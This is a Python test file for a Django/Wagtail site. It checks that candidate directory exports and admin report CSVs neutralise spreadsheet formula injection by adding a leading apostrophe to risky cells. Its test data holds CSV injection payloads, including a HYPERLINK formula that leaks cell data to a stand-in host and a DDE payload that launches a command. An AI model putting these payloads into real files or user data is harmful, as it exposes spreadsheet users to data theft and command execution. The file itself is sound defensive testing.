"""Every CSV the site produces is safe to open in a spreadsheet: a cell that would run as a
formula (=, +, -, @, tab, carriage return first) starts with an apostrophe instead, and the
text is otherwise kept. Files are read back with Python's csv reader, as a spreadsheet would."""

import csv
import io

import pytest
from django.urls import reverse

from core.operations.spreadsheets import FORMULA_TRIGGERS
from tests.candidates_factories import candidacy, candidate, indexes, translate, union
from tests.editorial_helpers import create_appeal, login

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(text):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_safe(rows, expected_texts):
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert dangerous == []
    for text in expected_texts:
        assert "'" + text in cells, f"{text!r} is not kept as text"


def test_candidate_exports_neutralise_formulas(client, site_structure):
    kk_directory, ru_directory = indexes()
    backing = union("formula", kk=FORMULAS[3], ru=FORMULAS[3])
    person = candidate(
        kk_directory,
        FORMULAS[0],
        [candidacy()],
        occupation=FORMULAS[1],
        workplace=FORMULAS[2],
        union=backing,
        slug="formula-person",
    )
    translate(person, FORMULAS[4], {FORMULAS[1]: FORMULAS[5], FORMULAS[2]: FORMULAS[2]})
    kk = read_csv(client.get(kk_directory.url + "export.csv").content.decode("utf-8"))
    assert_safe(kk, FORMULAS[:4])
    ru = read_csv(client.get(ru_directory.url + "export.csv").content.decode("utf-8"))
    assert_safe(ru, [FORMULAS[4], FORMULAS[5], FORMULAS[2], FORMULAS[3]])


def test_the_translation_status_report_csv_neutralises_formulas(client, users):
    create_appeal("kk", FORMULAS[0], "Мәтін.")
    login(client, users["editor"])
    response = client.get(reverse("editorial:translation_status"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert_safe(read_csv(text), [FORMULAS[0]])


def test_wagtails_own_report_csv_neutralises_formulas(client, users):
    page = create_appeal("kk", FORMULAS[3], "Мәтін.")
    page.locked = True
    page.locked_by = users["admin"]
    page.save()
    login(client, users["admin"])
    response = client.get(reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert_safe(read_csv(text), [FORMULAS[3]])
